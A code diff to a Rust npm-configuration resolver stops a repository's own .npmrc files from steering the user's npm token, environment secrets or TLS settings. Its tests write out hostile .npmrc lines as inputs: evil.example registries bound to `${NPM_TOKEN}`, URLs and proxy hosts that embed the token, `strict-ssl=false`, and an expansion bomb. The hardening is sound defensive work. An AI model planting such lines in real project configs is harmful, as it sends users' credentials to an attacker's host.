@@ -8,7 +8,13 @@
 //!
 //! A token goes only where it is bound: an `_authToken` line goes to the registry its nerf dart
 //! names; a token bound to none (`NPM_TOKEN`, the `token` option) goes to the public registry,
-//! or to a registry the caller named, never to one chosen by files a checkout holds.
+//! to a registry the caller named, or to one the user's own config names, never to one chosen
+//! by files a checkout holds.
+//!
+//! The checkout's files are the project .npmrc and any config file inside the project folder
+//! (`npm run` exports a project .npmrc's `userconfig=` as `npm_config_userconfig`). What they
+//! take from the user's environment (`${VAR}`) is the user's: an `_authToken` line built so is
+//! a token bound to no registry, and a URL built so is refused. They cannot weaken TLS.
 
 pub mod npmrc;
 pub mod transport;
@@ -105,7 +111,9 @@ pub enum Layer {
 struct Entries {
     /// `None` for the environment layer.
     path: Option<PathBuf>,
-    entries: Vec<(String, String)>,
+    /// A file of the checkout: the project .npmrc, or a config file inside the project folder.
+    checkout: bool,
+    entries: Vec<npmrc::Entry>,
 }
 
 /// Every npm config layer that applies to a directory, loaded once.
@@ -115,6 +123,12 @@ pub struct NpmConfig {
     pub env: EnvVars,
     /// The config files looked at, found or not, highest precedence first.
     pub files: Vec<(Layer, PathBuf, bool)>,
+    /// The project folder (npm's local prefix), when there is a project: what lies inside is
+    /// the checkout's.
+    project_dir: Option<PathBuf>,
+    /// Why the files cannot be used (an expansion past its bounds, a URL built from the
+    /// environment in a checkout's file): every call that resolves config fails with it.
+    problem: Option<Error>,
     /// Proxy and certificates, the same for every registry: resolved (certificate files read)
     /// once, however many packages a run goes through.
     transport:
@@ -123,15 +137,18 @@ pub struct NpmConfig {
 
 impl NpmConfig {
     pub fn load(cwd: &Path, env: EnvVars) -> NpmConfig {
+        let project_dir = npm_prefix(cwd);
         let mut config = NpmConfig {
             layers: vec![env_layer(&env)],
             env,
             files: Vec::new(),
+            project_dir: project_dir.clone(),
+            problem: None,
             transport: std::sync::OnceLock::new(),
         };
         // Outside any project npm's local prefix is the working directory itself.
         let project = Some(
-            npm_prefix(cwd)
+            project_dir
                 .unwrap_or_else(|| cwd.to_path_buf())
                 .join(".npmrc"),
         );
@@ -158,15 +175,68 @@ impl NpmConfig {
     fn add_file(&mut self, layer: Layer, path: PathBuf) {
         let found = match crate::read::config(&path) {
             Ok(text) => {
-                self.layers.push(Entries {
-                    path: Some(path.clone()),
-                    entries: npmrc::parse(&text, &self.env),
-                });
+                let checkout = layer == Layer::Project || self.inside_project(&path);
+                match npmrc::parse(&text, &self.env) {
+                    Ok(entries) => {
+                        let entries = Entries {
+                            path: Some(path.clone()),
+                            checkout,
+                            entries,
+                        };
+                        if let Some(problem) = entries.url_from_env() {
+                            self.problem.get_or_insert(problem);
+                        }
+                        self.layers.push(entries);
+                    }
+                    Err(why) => {
+                        self.problem.get_or_insert(Error::new(
+                            Code::InvalidInput,
+                            format!("{} cannot be used: {why}.", path.display()),
+                        ));
+                    }
+                }
                 true
             }
             Err(_) => false,
         };
         self.files.push((layer, path, found));
+    }
+
+    /// Whether a user or global config file lies inside the project folder, where the checkout
+    /// put it. `~/.npmrc` itself is the user's, wherever the project is: a checkout cannot move
+    /// the home folder.
+    fn inside_project(&self, path: &Path) -> bool {
+        let Some(project_dir) = &self.project_dir else {
+            return false;
+        };
+        if self.env.home().is_some_and(|h| h.join(".npmrc") == path) {
+            return false;
+        }
+        let real = |p: &Path| {
+            std::fs::canonicalize(p)
+                .ok()
+                .or_else(|| {
+                    let dir = std::fs::canonicalize(p.parent()?).ok()?;
+                    Some(dir.join(p.file_name()?))
+                })
+                .unwrap_or_else(|| p.to_path_buf())
+        };
+        real(path).starts_with(real(project_dir))
+    }
+
+    /// Whether `source` is a file of the checkout.
+    fn is_checkouts(&self, source: &Source) -> bool {
+        let Source::File { path, .. } = source else {
+            return false;
+        };
+        self.layers
+            .iter()
+            .any(|l| l.checkout && l.path.as_deref() == Some(path))
+    }
+
+    /// Why the config cannot be used, if it cannot.
+    fn check(&self) -> Result<()> {
+        self.problem.clone().map_or(Ok(()), Err)
     }
 
     /// The user's config file (`npm_config_userconfig`, else `~/.npmrc`), found or not: where
@@ -178,6 +248,12 @@ impl NpmConfig {
             .map(|(_, path, _)| path.as_path())
     }
 
+    /// Whether the user's config file lies inside the project folder: the checkout's file.
+    pub fn user_file_in_checkout(&self) -> bool {
+        self.user_file()
+            .is_some_and(|path| self.inside_project(path))
+    }
+
     pub fn transport(&self) -> Result<&(transport::TransportConfig, transport::TransportReport)> {
         self.transport
             .get_or_init(|| transport::resolve(self))
@@ -187,12 +263,39 @@ impl NpmConfig {
 
     /// Every value of a list key (`ca[]=`) from the highest layer that sets it.
     pub fn setting_list(&self, key: &str) -> Option<(Vec<String>, Source)> {
-        self.layers.iter().find_map(|layer| {
+        self.first_list(self.layers.iter(), key)
+    }
+
+    /// [`NpmConfig::setting_list`] for a setting a checkout must not choose (one that weakens
+    /// TLS): from the files that are not the checkout's, and from the environment unless a
+    /// checkout's file sets the key too (`npm run` exports a project .npmrc's settings as
+    /// `npm_config_*`). Also the checkout's file that sets it, when that was passed over.
+    pub fn users_setting_list(&self, key: &str) -> (Option<(Vec<String>, Source)>, Option<Source>) {
+        let sets = |l: &&Entries| l.entries.iter().any(|e| e.key == key);
+        let checkout = self.layers.iter().find(|l| l.checkout && sets(l));
+        let exported = |l: &Entries| checkout.is_some() && l.path.is_none();
+        let trusted = |l: &&Entries| !(l.checkout || exported(l));
+        let top = self.layers.iter().find(sets);
+        let passed_over = checkout
+            .filter(|_| top.is_some_and(|t| !trusted(&t)))
+            .map(|l| l.source_of(key));
+        (
+            self.first_list(self.layers.iter().filter(trusted), key),
+            passed_over,
+        )
+    }
+
+    fn first_list<'a>(
+        &self,
+        mut layers: impl Iterator<Item = &'a Entries>,
+        key: &str,
+    ) -> Option<(Vec<String>, Source)> {
+        layers.find_map(|layer| {
             let values: Vec<String> = layer
                 .entries
                 .iter()
-                .filter(|(k, _)| k == key)
-                .map(|(_, v)| v.clone())
+                .filter(|e| e.key == key)
+                .map(|e| e.value.clone())
                 .collect();
             (!values.is_empty()).then(|| (values, layer.source_of(key)))
         })
@@ -200,14 +303,66 @@ impl NpmConfig {
 
     /// A key's value from the highest layer that sets it; the last occurrence within a file wins.
     pub fn setting(&self, key: &str) -> Option<(String, Source)> {
-        self.layers.iter().find_map(|layer| {
-            let (k, v) = layer.entries.iter().rev().find(|(k, _)| k == key)?;
-            Some((v.clone(), layer.source_of(k)))
+        self.entries(key)
+            .next()
+            .map(|(layer, e)| (e.value.clone(), layer.source_of(key)))
+    }
+
+    /// A key's values, highest layer first (the last occurrence within a file).
+    fn entries<'a>(
+        &'a self,
+        key: &'a str,
+    ) -> impl Iterator<Item = (&'a Entries, &'a npmrc::Entry)> {
+        self.layers.iter().filter_map(move |layer| {
+            let entry = layer.entries.iter().rev().find(|e| e.key == key)?;
+            Some((layer, entry))
         })
     }
 }
 
+/// The keys whose values are URLs or hosts the calls go to (or around, `noproxy`), or paths of
+/// config files (shown in messages).
+fn names_a_place(key: &str) -> bool {
+    matches!(
+        key,
+        "registry"
+            | "proxy"
+            | "https-proxy"
+            | "http-proxy"
+            | "noproxy"
+            | "prefix"
+            | "userconfig"
+            | "globalconfig"
+    ) || key.ends_with(":registry")
+}
+
 impl Entries {
+    /// A checkout's file building a URL from the user's environment: it would carry the
+    /// user's secret in a request line and in messages, so it is refused; the message names the
+    /// key and the file, never the value.
+    fn url_from_env(&self) -> Option<Error> {
+        let path = self.path.as_ref().filter(|_| self.checkout)?;
+        let entry = self
+            .entries
+            .iter()
+            .find(|e| e.from_env && names_a_place(&e.key))?;
+        // A key built from the environment is not shown either.
+        let key = match entry.key_from_env {
+            false => format!("`{}`", entry.key),
+            true => "A key built from an environment variable".to_string(),
+        };
+        // No option is at fault: no `field`.
+        Some(Error::new(
+            Code::InvalidInput,
+            format!(
+                "{key} in {} takes its value from an environment variable (`${{...}}`), and that \
+                 file is the checkout's: it could send what the variable holds to any host. Write \
+                 the value itself there, or set it in your user .npmrc.",
+                path.display(),
+            ),
+        ))
+    }
+
     fn source_of(&self, key: &str) -> Source {
         match &self.path {
             Some(path) => Source::File {
@@ -247,15 +402,26 @@ fn env_layer(env: &EnvVars) -> Entries {
     entries.sort();
     Entries {
         path: None,
-        entries,
+        checkout: false,
+        entries: entries
+            .into_iter()
+            .map(|(key, value)| npmrc::Entry {
+                key,
+                value,
+                from_env: false,
+                key_from_env: false,
+            })
+            .collect(),
     }
 }
 
 /// npm's global prefix: `npm_config_prefix`/`PREFIX`, else next to the node binary
 /// (`{prefix}/bin/node` on Unix, `{prefix}\node.exe` on Windows).
 fn global_prefix(config: &NpmConfig) -> Option<PathBuf> {
-    if let Some((prefix, _)) = config.setting("prefix") {
-        return Some(PathBuf::from(prefix));
+    // npm takes it from the environment and the user's config, never the project's.
+    let layers = config.layers.iter().filter(|l| !l.checkout);
+    if let Some((mut prefix, _)) = config.first_list(layers, "prefix") {
+        return prefix.pop().map(PathBuf::from);
     }
     if let Some(prefix) = config.env.non_empty("PREFIX") {
         return Some(PathBuf::from(prefix));
@@ -302,7 +468,8 @@ pub struct Resolved {
     pub registry_source: Source,
     pub token: Option<Token>,
     /// Where a token bound to no registry came from when it was not used for this one (see
-    /// [`takes_unbound_token`]), so `ENEEDAUTH` can say why.
+    /// [`takes_unbound_token`]): `NPM_TOKEN`, the `token` option, or a checkout's
+    /// `_authToken=${VAR}` line; so `ENEEDAUTH` can say why.
     pub withheld: Option<Source>,
     pub transport: transport::TransportConfig,
     pub transport_report: transport::TransportReport,
@@ -336,17 +503,20 @@ pub fn resolve(
             .setting("registry")
             .unwrap_or_else(|| (DEFAULT_REGISTRY.to_string(), Source::Default)),
     };
+    config.check()?;
     let registry = parse_registry(&registry, &registry_source)?;
     // A token the caller gave goes first; then one bound to the registry; then NPM_TOKEN. The
     // caller's and NPM_TOKEN are bound to no registry, so only some registries get them.
+    let may_take_unbound = takes_unbound_token(config, &registry, &registry_source);
     let unbound = |token: Token| {
-        if takes_unbound_token(&registry, &registry_source) {
+        if may_take_unbound {
             (Some(token), None)
         } else {
             (None, Some(token.source))
         }
     };
-    let (token, withheld) = match (&overrides.token, bound_token(config, &registry)) {
+    let (bound, withheld_line) = bound_token(config, &registry, may_take_unbound);
+    let (token, withheld) = match (&overrides.token, bound) {
         (Some(value), _) => unbound(Token {
             value: value.clone(),
             source: Source::Option("token"),
@@ -359,6 +529,11 @@ pub fn resolve(
             }),
             None => (None, None),
         },
+    };
+    // A checkout's line passed over says more than NPM_TOKEN not taken; the caller's token less.
+    let withheld = match (&token, &overrides.token) {
+        (None, None) => withheld_line.or(withheld),
+        _ => withheld,
     };
     let (transport, transport_report) = config.transport()?.clone();
     Ok(Resolved {
@@ -408,37 +583,62 @@ pub fn without_userinfo(raw: &str) -> String {
     }
 }
 
-/// Whether a token bound to no registry may go to `registry`: the public registry, or one the
-/// caller named (the `registry` option, the CLI's `--registry`). Not one that files choose: a
-/// project .npmrc, package.json's `publishConfig`, `npm_config_registry` (which `npm run`
-/// exports from the project's .npmrc), nor the user's own config (the token is not bound
-/// there: a line binds it). Whoever wrote the checkout would otherwise get the user's token
-/// (and a publish's tarball).
-fn takes_unbound_token(registry: &Url, source: &Source) -> bool {
-    registry.as_str() == DEFAULT_REGISTRY || *source == Source::Option("registry")
+/// Whether a token bound to no registry may go to `registry`: the public registry, one the
+/// caller named (the `registry` option, the CLI's `--registry`), or one the user's own config
+/// names (the user or global .npmrc, outside the project folder). Not one that the checkout
+/// chooses: a project .npmrc, a config file inside the project, package.json's
+/// `publishConfig`, `npm_config_registry` (which `npm run` exports from the project's .npmrc).
+/// Whoever wrote the checkout would otherwise get the user's token (and a publish's tarball).
+fn takes_unbound_token(config: &NpmConfig, registry: &Url, source: &Source) -> bool {
+    registry.as_str() == DEFAULT_REGISTRY
+        || *source == Source::Option("registry")
+        || matches!(source, Source::File { .. }) && !config.is_checkouts(source)
 }
 
 /// The `_authToken` bound to a registry: npm's longest-path match over `//host[:port]/path/`
-/// keys.
-fn bound_token(config: &NpmConfig, registry: &Url) -> Option<Token> {
+/// keys. A checkout's line that takes its token from the environment binds nothing: the
+/// token is the user's, so it goes where a token bound to no registry may go
+/// (`may_take_unbound`); otherwise it is passed over, and returned second so `ENEEDAUTH` can
+/// name it.
+fn bound_token(
+    config: &NpmConfig,
+    registry: &Url,
+    may_take_unbound: bool,
+) -> (Option<Token>, Option<Source>) {
+    let mut withheld = None;
     let mut key = write::nerf_dart(registry);
     loop {
-        if let Some((value, source)) = config.setting(&format!("{key}:_authToken")) {
-            if !value.is_empty() {
-                return Some(Token { value, source });
+        let name = format!("{key}:_authToken");
+        for (layer, entry) in config.entries(&name) {
+            if entry.value.is_empty() {
+                // npm takes the first file's line, even empty: a shorter path is next.
+                break;
             }
+            let source = layer.source_of(&name);
+            if entry.from_env && layer.checkout && !may_take_unbound {
+                withheld.get_or_insert(source);
+                continue;
+            }
+            let token = Token {
+                value: entry.value.clone(),
+                source,
+            };
+            return (Some(token), withheld);
         }
         // Walk up: drop the last segment or the trailing slash, as npm-registry-fetch does.
         let trimmed = match key.strip_suffix('/') {
             Some(k) => k.to_string(),
-            None => key[..key.rfind('/')? + 1].to_string(),
+            None => match key.rfind('/') {
+                Some(at) => key[..at + 1].to_string(),
+                None => break,
+            },
         };
         if trimmed.len() <= 2 {
             break;
         }
         key = trimmed;
     }
-    None
+    (None, withheld)
 }
 
 /// `ENEEDAUTH`, with what was looked at, so the fix is obvious; when a token bound to no
@@ -470,23 +670,59 @@ pub fn need_auth(config: &NpmConfig, resolved: &Resolved) -> Error {
         return Error::new(Code::NeedAuth, format!("{missing}, and no NPM_TOKEN."))
             .with_hint(Hint::Token);
     };
-    let bind = match withheld {
-        Source::Env(name) => format!(
-            " The line `{nerf}:_authToken=${{{name}}}` in your user .npmrc binds it to this \
-             registry."
+    let (what, bind) = match withheld {
+        Source::File { path, key } => (
+            format!(
+                "No npm token for {registry}: `{key}` in {} takes its token from an environment \
+                 variable, and that file is the checkout's, so the token is yours and bound to no \
+                 registry",
+                path.display()
+            ),
+            " The same line in your user .npmrc binds it to this registry.".to_string(),
         ),
-        _ => String::new(),
+        Source::Env(name) => (
+            format!("{missing}. A token is set ({withheld}), but it is bound to no registry"),
+            format!(
+                " The line `{nerf}:_authToken=${{{name}}}` in your user .npmrc binds it to this \
+                 registry."
+            ),
+        ),
+        _ => (
+            format!("{missing}. A token is set ({withheld}), but it is bound to no registry"),
+            String::new(),
+        ),
     };
     Error::new(
         Code::NeedAuth,
         format!(
-            "{missing}. A token is set ({withheld}), but it is bound to no registry, so it is \
-             sent only to {DEFAULT_REGISTRY} or to a registry named by the caller; this one comes \
-             from {}, which a checkout can set, and whoever set it would get the token.{bind}",
-            resolved.registry_source
+            "{what}. Such a token is sent only to {DEFAULT_REGISTRY}, to a registry named by the \
+             caller, or to one your user or global .npmrc names; this one comes from {}, and \
+             whoever wrote that would get the token.{bind}",
+            chosen_by(config, &resolved.registry_source)
         ),
     )
     .with_hint(Hint::BindToken)
+}
+
+/// Where a registry that gets no unbound token was chosen, and why that is the checkout's.
+fn chosen_by(config: &NpmConfig, source: &Source) -> String {
+    match source {
+        Source::File { path, .. }
+            if config
+                .files
+                .iter()
+                .any(|(layer, p, _)| *layer == Layer::Project && p == path) =>
+        {
+            format!("{source}, the project's .npmrc, which is the checkout's")
+        }
+        Source::File { .. } => format!(
+            "{source}, a file inside the project folder (`npm run` exports a project .npmrc's \
+             `userconfig=` as npm_config_userconfig), which is the checkout's"
+        ),
+        Source::Env(_) => format!("{source}, which `npm run` exports from the project's .npmrc"),
+        Source::PublishConfig => format!("{source}, which is the checkout's"),
+        Source::Option(_) | Source::Default => source.to_string(),
+    }
 }
 
 #[cfg(test)]
@@ -548,9 +784,10 @@ mod tests {
                 config.files.iter().filter(|(_, _, found)| *found).count(),
                 0
             );
-            // A certificate file the checkout names is read the same way.
-            std::fs::remove_file(&npmrc).unwrap();
-            sb.write("project/.npmrc", "cafile=/dev/zero\n");
+            // A certificate file is read the same way (the user's config names it: the
+            // checkout's is not applied at all).
+            std::fs::remove_file(sb.0.join("home/.npmrc")).unwrap();
+            sb.write("home/.npmrc", "cafile=/dev/zero\n");
             let err = sb.load(&[]).transport().unwrap_err();
             assert!(err.message.contains("a device"), "{}", err.message);
         });
@@ -710,14 +947,244 @@ mod tests {
             assert_eq!(r.withheld, None);
         }
 
-        // A token bound to a private registry by its nerf dart still goes there, wherever
-        // the registry was chosen.
+        // A token bound to a private registry by its nerf dart in the user's config still goes
+        // there, wherever the registry was chosen.
+        sb.write("project/.npmrc", "registry=https://npm.corp.example/\n");
         sb.write(
-            "project/.npmrc",
-            "registry=https://npm.corp.example/\n//npm.corp.example/:_authToken=${NPM_TOKEN}\n",
+            "home/.npmrc",
+            "//npm.corp.example/:_authToken=${NPM_TOKEN}\n",
         );
         let r = resolve_for(&sb.load(&npm_token), "pkg");
         assert_eq!(r.token.unwrap().value, "env-token");
+    }
+
+    /// The user's own config (outside the project) choosing a registry is the user's choice:
+    /// an unbound token goes there (`registry=` as `npm login --registry` leaves it).
+    #[test]
+    fn an_unbound_token_goes_to_the_registry_of_the_users_own_config() {
+        let sb = Sandbox::new("userreg");
+        for file in ["home/.npmrc", "prefix/etc/npmrc"] {
+            sb.write(file, "registry=https://npm.corp.example/\n");
+            let r = resolve_for(&sb.load(&[("NPM_TOKEN", "env-token")]), "pkg");
+            assert_eq!(
+                r.token.map(|t| t.value).as_deref(),
+                Some("env-token"),
+                "{file}"
+            );
+            std::fs::remove_file(sb.0.join(file)).unwrap();
+        }
+        // The message for a registry the checkout chose says so, per layer.
+        sb.write("project/.npmrc", "registry=https://evil.example/\n");
+        let config = sb.load(&[("NPM_TOKEN", "env-token")]);
+        let err = need_auth(&config, &resolve_for(&config, "pkg"));
+        assert!(
+            err.message.contains("the project's .npmrc"),
+            "{}",
+            err.message
+        );
+        let config = sb.load(&[
+            ("NPM_TOKEN", "env-token"),
+            ("npm_config_registry", "https://evil.example/"),
+        ]);
+        let err = need_auth(&config, &resolve_for(&config, "pkg"));
+        assert!(err.message.contains("`npm run` exports"), "{}", err.message);
+    }
+
+    /// Finding 1: a checkout's `_authToken=${VAR}` line takes a secret from the user's
+    /// environment; it goes only where a token bound to no registry may go.
+    #[test]
+    fn a_checkout_cannot_bind_the_users_environment_to_its_registry() {
+        let sb = Sandbox::new("checkoutbind");
+        let env = [("NPM_TOKEN", "env-token"), ("MY", "my-secret-value")];
+        for line in [
+            "//evil.example/:_authToken=${NPM_TOKEN}",
+            "//evil.example/:_authToken=${NPM_TOKEN?}",
+            "//evil.example/:_authToken=${MY}",
+            "//evil.example/:_authToken=x${MY}",
+        ] {
+            sb.write(
+                "project/.npmrc",
+                &format!("registry=https://evil.example/\n{line}\n"),
+            );
+            let config = sb.load(&env);
+            let r = resolve_for(&config, "pkg");
+            assert!(r.token.is_none(), "{line}: {:?}", r.token);
+            assert!(
+                matches!(&r.withheld, Some(Source::File { key, .. }) if key == "//evil.example/:_authToken"),
+                "{line}: {:?}",
+                r.withheld
+            );
+            let err = need_auth(&config, &r);
+            assert_eq!(err.hint, Some(Hint::BindToken));
+            assert!(
+                err.message.contains("environment variable"),
+                "{}",
+                err.message
+            );
+            assert!(!err.message.contains("env-token") && !err.message.contains("my-secret"));
+        }
+        // A literal token in the checkout is its own: it goes to the checkout's registry.
+        sb.write(
+            "project/.npmrc",
+            "registry=https://own.example/\n//own.example/:_authToken=checkout-token\n",
+        );
+        let r = resolve_for(&sb.load(&env), "pkg");
+        assert_eq!(r.token.unwrap().value, "checkout-token");
+        // The common line for the public registry keeps working.
+        sb.write(
+            "project/.npmrc",
+            "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n",
+        );
+        let r = resolve_for(&sb.load(&env), "pkg");
+        assert!(matches!(r.token.unwrap().source, Source::File { .. }));
+        // So does a registry the caller names.
+        sb.write(
+            "project/.npmrc",
+            "//npm.corp.example/:_authToken=${NPM_TOKEN}\n",
+        );
+        let named = Overrides {
+            registry: Some("https://npm.corp.example/".into()),
+            ..Overrides::default()
+        };
+        let r = resolve(&sb.load(&env), &named, None).unwrap();
+        assert_eq!(r.token.unwrap().value, "env-token");
+    }
+
+    /// Finding 2: a URL a checkout builds from the environment would carry a secret in a
+    /// request line and in messages; refused, naming the key and file, never the value.
+    #[test]
+    fn a_checkout_cannot_put_the_environment_into_a_url() {
+        let sb = Sandbox::new("urlexp");
+        let env = [("NPM_TOKEN", "env-token-SECRET")];
+        for (line, pkg) in [
+            ("registry=https://evil.example/${NPM_TOKEN}/", "pkg"),
+            (
+                "@corp:registry=https://evil.example/${NPM_TOKEN}/",
+                "@corp/lib",
+            ),
+            ("https-proxy=http://${NPM_TOKEN}.evil.example/", "pkg"),
+            ("proxy=http://evil.example/${NPM_TOKEN}", "pkg"),
+            ("noproxy=${NPM_TOKEN}", "pkg"),
+            ("prefix=/tmp/${NPM_TOKEN}", "pkg"),
+            ("userconfig=/tmp/${NPM_TOKEN}/.npmrc", "pkg"),
+            ("@${NPM_TOKEN}:registry=https://evil.example/", "pkg"),
+        ] {
+            sb.write("project/.npmrc", &format!("{line}\n"));
+            let pkg = PackageName::parse(pkg).unwrap();
+            let err = resolve(&sb.load(&env), &Overrides::default(), Some(&pkg)).expect_err(line);
+            assert_eq!(err.code, Code::InvalidInput, "{line}");
+            let key = line.split('=').next().unwrap();
+            let named = !key.contains('$');
+            assert!(
+                !named || err.message.contains(&format!("`{key}`")),
+                "{}",
+                err.message
+            );
+            assert!(err.message.contains(".npmrc"), "{}", err.message);
+            assert!(!err.message.contains("SECRET"), "{}", err.message);
+        }
+        // The user's own config may build its URLs from the environment.
+        std::fs::remove_file(sb.0.join("project/.npmrc")).unwrap();
+        sb.write("home/.npmrc", "registry=https://${HOST}/\n");
+        let r = resolve_for(&sb.load(&[("HOST", "npm.corp.example")]), "pkg");
+        assert_eq!(r.registry.as_str(), "https://npm.corp.example/");
+    }
+
+    /// Finding 3: the checkout's files cannot weaken TLS, so a proxy they name cannot read
+    /// the traffic; the user's config can.
+    #[test]
+    fn a_checkout_cannot_weaken_tls() {
+        let sb = Sandbox::new("tls");
+        let pem = "-----BEGIN CERTIFICATE-----\\nMIIB\\n-----END CERTIFICATE-----";
+        sb.write("project/ca.pem", "-----BEGIN CERTIFICATE-----\n");
+        let cafile = sb.0.join("project/ca.pem");
+        for line in [
+            "strict-ssl=false".to_string(),
+            format!("cafile={}", cafile.display()),
+            format!("ca={pem}"),
+        ] {
+            sb.write(
+                "project/.npmrc",
+                &format!("https-proxy=http://127.0.0.1:9/\n{line}\n"),
+            );
+            let config = sb.load(&[]);
+            let (transport, report) = config.transport().unwrap();
+            assert!(transport.strict_ssl, "{line}");
+            assert!(transport.ca_only.is_none(), "{line}");
+            let key = line.split('=').next().unwrap();
+            assert!(
+                report
+                    .ignored
+                    .iter()
+                    .any(|w| w.contains(&format!("`{key}`")) && w.contains("user .npmrc")),
+                "{line}: {:?}",
+                report.ignored
+            );
+        }
+        // `npm run` exports the project's `cafile` to the environment: not applied either.
+        let exported = [("npm_config_cafile", cafile.to_str().unwrap())];
+        sb.write("project/.npmrc", &format!("cafile={}\n", cafile.display()));
+        let config = sb.load(&exported);
+        let (transport, report) = config.transport().unwrap();
+        assert!(transport.ca_only.is_none());
+        assert_eq!(report.ignored.len(), 1, "{:?}", report.ignored);
+        std::fs::remove_file(sb.0.join("project/.npmrc")).unwrap();
+        // The user's config and environment apply.
+        sb.write("home/.npmrc", "strict-ssl=false\n");
+        assert!(!sb.load(&[]).transport().unwrap().0.strict_ssl);
+        assert!(sb.load(&exported).transport().unwrap().0.ca_only.is_some());
+        // Nor does the project's `prefix` move the global config (npm reads it from the
+        // environment and the user's config only).
+        sb.write("project/.npmrc", "prefix=/nowhere\n");
+        let config = sb.load(&[]);
+        assert!(config
+            .files
+            .iter()
+            .all(|(_, p, _)| !p.starts_with("/nowhere")));
+    }
+
+    /// Finding 6: a user or global config inside the project folder (`npm run` exports a
+    /// project .npmrc's `userconfig=`) is the checkout's file.
+    #[test]
+    fn a_config_file_inside_the_project_is_the_checkouts() {
+        let sb = Sandbox::new("inside");
+        sb.write(
+            "project/ci-cache.npmrc",
+            "registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\nstrict-ssl=false\n",
+        );
+        let inside = sb.0.join("project/ci-cache.npmrc");
+        let inside = inside.to_str().unwrap();
+        for var in ["npm_config_userconfig", "npm_config_globalconfig"] {
+            let config = sb.load(&[("NPM_TOKEN", "env-token"), (var, inside)]);
+            let r = resolve_for(&config, "pkg");
+            assert!(r.token.is_none(), "{var}");
+            assert!(r.transport.strict_ssl, "{var}");
+        }
+        // ~/.npmrc is the user's, even when the project folder holds the home folder.
+        sb.write("home/package.json", "{}");
+        sb.write(
+            "home/.npmrc",
+            "registry=https://npm.corp.example/\nstrict-ssl=false\n",
+        );
+        let config = NpmConfig::load(&sb.0.join("home"), sb.env(&[("NPM_TOKEN", "t0ken")]));
+        let r = resolve_for(&config, "pkg");
+        assert!(r.token.is_some());
+        assert!(!r.transport.strict_ssl);
+    }
+
+    /// Finding 7: a small file cannot take gigabytes through `${VAR}`.
+    #[test]
+    fn expansion_in_a_config_file_is_bounded() {
+        let sb = Sandbox::new("envbomb");
+        let big = "A".repeat(2000);
+        sb.write(
+            "project/.npmrc",
+            &format!("k={}\n", "${BIG}".repeat(1000)).repeat(4),
+        );
+        let err = resolve(&sb.load(&[("BIG", &big)]), &Overrides::default(), None).unwrap_err();
+        assert_eq!(err.code, Code::InvalidInput);
+        assert!(err.message.contains("project/.npmrc"), "{}", err.message);
+        assert!(!err.message.contains("AAAA"));
     }
 
     #[test]
